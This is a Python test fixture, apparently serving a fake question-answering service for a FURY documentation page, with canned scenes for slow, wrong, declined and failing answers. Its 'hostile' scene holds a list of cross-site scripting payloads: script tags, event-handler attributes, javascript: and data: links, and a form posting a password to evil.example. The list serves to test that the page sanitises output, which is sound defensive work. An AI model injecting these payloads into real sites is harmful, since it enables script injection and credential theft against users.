"""The service behind the page in tests and in the screenshot: what a question contains chooses what comes of it.

As a program it serves on a free port and says on stdout when a question began and when it was given up.
"""

from __future__ import annotations

import sys
import zlib
from collections.abc import Iterator
from pathlib import Path
from uuid import UUID, uuid4

from msgspec.structs import replace

from agent.api import serve
from agent.cancellation import CancelToken
from agent.errors import Cancelled, ModelTimeout, Overloaded, StoreUnavailable
from agent.schema import (
    Answer,
    AnswerEvent,
    Citation,
    Event,
    FeedbackRequest,
    Finding,
    Library,
    QueryRequest,
    Ran,
    SourcesEvent,
    Timings,
    TokenEvent,
    Verification,
)
from agent.settings import Settings
from tests.fakes import ScriptedService, Step, pause

HOST = "https://github.com/fury-gl/fury/blob/v2.0.0"
SPHERE = """def sphere(
    centers,
    *,
    colors=(1, 0, 0),
    radii=1.0,
    phi=16,
    theta=16,
    opacity=None,
    material="phong",
    enable_picking=True,
    smooth=True,
    wireframe=False,
    wireframe_thickness=1.0,
    impostor=True,
):"""
SHOW = '''class ShowManager:
    """Show manager for the rendering window.

    It manages the rendering of the scene(s) in the window. It also
    handles the events and callbacks.
    """'''
CURVED, WINDOW, EXAMPLE = "fury/actor/curved.py", "fury/window.py", "docs/examples/viz_sphere.py"
GONE_NAMES = ("fury.ui.Panel2D",)
CITATIONS = (
    Citation(1, CURVED, "sphere", 46, 163, f"{HOST}/{CURVED}#L46-L163", "fury.actor.sphere", excerpt=SPHERE),
    Citation(
        2, WINDOW, "ShowManager", 631, 1932, f"{HOST}/{WINDOW}#L631-L1932", "fury.window.ShowManager", excerpt=SHOW
    ),
    Citation(3, EXAMPLE, None, 1, 40, f"{HOST}/{EXAMPLE}#L1-L40", "Drawing spheres", GONE_NAMES, "import numpy as np"),
)
TEXT = """Give `actor.sphere` one centre and one colour for each sphere [1], add the actor to a `Scene`, and
show it with a `ShowManager` [2].

```python
import numpy as np
from fury import actor, window

centers = np.array([[-3, 0, 0], [0, 0, 0], [3, 0, 0]], dtype=np.float32)
colors = np.array([[0.8, 0.3, 0.2], [0.2, 0.5, 0.5], [0.9, 0.7, 0.3]])

scene = window.Scene()
scene.add(actor.sphere(centers, colors=colors, radii=1.2))  # one actor for all three
window.ShowManager(scene=scene, size=(800, 600)).start()
```

Colours are red, green and blue from 0 to 1; a single colour is used for all. `radii` may be one number, or one for
each sphere [1, 3]."""
GONE = "`fury.actor.spher` does not exist."
FINDING = Finding("unknown-name", 3, 1, "actor.spher", GONE, "fury.actor.spher", ("fury.actor.sphere",))
RAN = Ran(ok=True, seconds=1.23, image_url="/pictures/known.png")
CONVERSATION = UUID(int=2)
ANSWER = Answer(
    answer_id=UUID(int=1),
    conversation_id=CONVERSATION,
    status="answered",
    answer=TEXT,
    citations=CITATIONS,
    verification=Verification(checked_names=3, checked_calls=4, repaired=("added `import numpy as np`",), ran=RAN),
    library="fury",
    version="2.0.0",
    revision="v2.0.0",
    model="qwen2.5-coder-1.5b",
    timings=Timings(41.0, 900.0, 6234.0),
)
SOURCES = SourcesEvent(CITATIONS, "fury", "2.0.0")
PLAIN = replace(ANSWER, answer="Use `actor.sphere` [1].", citations=CITATIONS[:1], verification=Verification(1))
WRONG = replace(PLAIN, verification=Verification(2, ("fury.actor.spher",), findings=(FINDING,)))
OPEN = replace(
    PLAIN, verification=Verification(1, checked_calls=1, unchecked_names=("fury.Scene.pick",), unchecked_calls=1)
)
DECLINED = replace(PLAIN, status="declined", answer="The sources of fury 2.0.0 do not answer this.")
PLACES = replace(PLAIN, status="sources_only", answer="No language model. These places are the nearest:", model=None)

ATTACKS = (
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(2)">',
    "[click](javascript:alert(3))",
    "[data](data:text/html,<script>alert(4)</script>)",
    "[elsewhere](https://evil.example/steal)",
    "https://evil.example/bare",
    "![picture](https://evil.example/pixel.png)",
    "![own](/pictures/known.png)",
    '<svg onload="alert(5)"><use href="data:image/svg+xml,x"/></svg>',
    "<iframe src=https://evil.example></iframe><form action=https://evil.example><input name=password></form>",
    '<a href="https://github.com/x" onclick="alert(6)">trusted host</a>',
    "[1]: https://evil.example/reference\n\nSee [1].",
    '```python" onmouseover="alert(7)\n</code></pre><script>alert(8)</script>\n```',
    "<style>body { display: none }</style>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(9)&gt;'>",
    "[id](#question) <div id=question name=body></div>",
)
MARKUP = "\"'><img src=x onerror=alert(10)><script>alert(11)</script>"
HOSTILE_PLACE = Citation(
    1, f"{MARKUP}.py", MARKUP, 1, 2, "javascript:alert(12)", MARKUP, (MARKUP,), f"{MARKUP}\n</code>"
)
HOSTILE = replace(
    ANSWER,
    answer="\n\n".join(ATTACKS),
    citations=(HOSTILE_PLACE, CITATIONS[1]),
    model=MARKUP,
    verification=Verification(
        1,
        repaired=(MARKUP,),
        unchecked=MARKUP,
        findings=(replace(FINDING, message=MARKUP, suggestions=(MARKUP,)),),
        ran=Ran(ok=False, seconds=1.0, image_url="https://evil.example/x.png", error=MARKUP),
    ),
)


def picture() -> bytes:
    """Return a small PNG: one grey pixel."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    header = (1).to_bytes(4, "big") * 2 + bytes([8, 0, 0, 0, 0])
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        (chunk(b"IHDR", header), chunk(b"IDAT", zlib.compress(b"\x00\x80")), chunk(b"IEND", b""))
    )


def drafted(text: str) -> list[Step]:
    """Return a text as the tokens of a draft."""
    return [TokenEvent(word + " ") for word in text.split(" ")]


SCENES: dict[str, list[Step]] = {
    "slowly": [SOURCES, TokenEvent("The draft "), 60.0, AnswerEvent(PLAIN)],
    "steps": [SOURCES, 0.5, TokenEvent("A draft that is replaced."), 1.0, AnswerEvent(PLAIN)],
    "wrong": [SOURCES, AnswerEvent(WRONG)],
    "undecided": [SOURCES, AnswerEvent(OPEN)],
    "declined": [SOURCES, AnswerEvent(DECLINED)],
    "places": [SOURCES, AnswerEvent(PLACES)],
    "busy": [Overloaded("All places are taken.", remedy="Come back.", retry_after=2)],
    "late": [SOURCES, TokenEvent("Half of"), ModelTimeout("The model said nothing.", remedy="Ask again later.")],
    "broken": [StoreUnavailable("The vector store did not answer.", remedy="See `fury-agent doctor`.")],
    "cut": [SOURCES, TokenEvent("Half of")],
    "hostile": [replace(SOURCES, citations=HOSTILE.citations), *drafted(HOSTILE.answer), AnswerEvent(HOSTILE)],
    "spheres": [SOURCES, *drafted(TEXT), AnswerEvent(ANSWER)],
    "": [SOURCES, *drafted(PLAIN.answer), AnswerEvent(PLAIN)],
}


class PageService(ScriptedService):
    """Answers by the first scene whose word the question contains; serves a picture of its own."""

    def __init__(self, png: bytes | None = None) -> None:
        super().__init__()
        self.png = png or picture()

    def stream(self, request: QueryRequest, cancel: CancelToken, *, user: str | None = None) -> Iterator[Event]:
        del user
        said("asked", request.question.split()[0], *filter(None, (request.conversation_id, request.version)))
        scene = next(scene for word, scene in SCENES.items() if word in request.question)
        try:
            for step in scene:
                if isinstance(step, Exception):
                    raise step
                if isinstance(step, int | float):
                    pause(step, cancel)
                else:
                    yield step if not isinstance(step, AnswerEvent) else AnswerEvent(_own(step.answer, request))
        except Cancelled:
            said("cancelled")
            raise

    def picture(self, name: str) -> bytes:
        return self.png if name == "known.png" else super().picture(name)

    def feedback(self, request: FeedbackRequest, *, user: str | None = None) -> None:
        del user
        said("feedback", request.verdict, request.reason or "")

    def libraries(self) -> tuple[Library, ...]:
        library = Library("fury", "2.0.0", "v2.0.0", "2026-01-01T00:00:00Z", 10, 100, "all-MiniLM-L6-v2")
        return (library, replace(library, version="0.10.0"))


def _own(answer: Answer, request: QueryRequest) -> Answer:
    """Return the answer with the ids of this question's own conversation."""
    return replace(answer, answer_id=uuid4(), conversation_id=request.conversation_id or uuid4())


def said(*words: object) -> None:
    """Tell whoever reads this process's output."""
    print(*words, flush=True)  # noqa: T201 - what the tests listen to


if __name__ == "__main__":
    origins = tuple(sys.argv[2:])
    png = Path(sys.argv[1]).read_bytes() if sys.argv[1:2] not in ([], ["-"]) else None
    service = PageService(png)
    serve(lambda: service, Settings(port=0, cors_origins=origins, heartbeat=0.2))
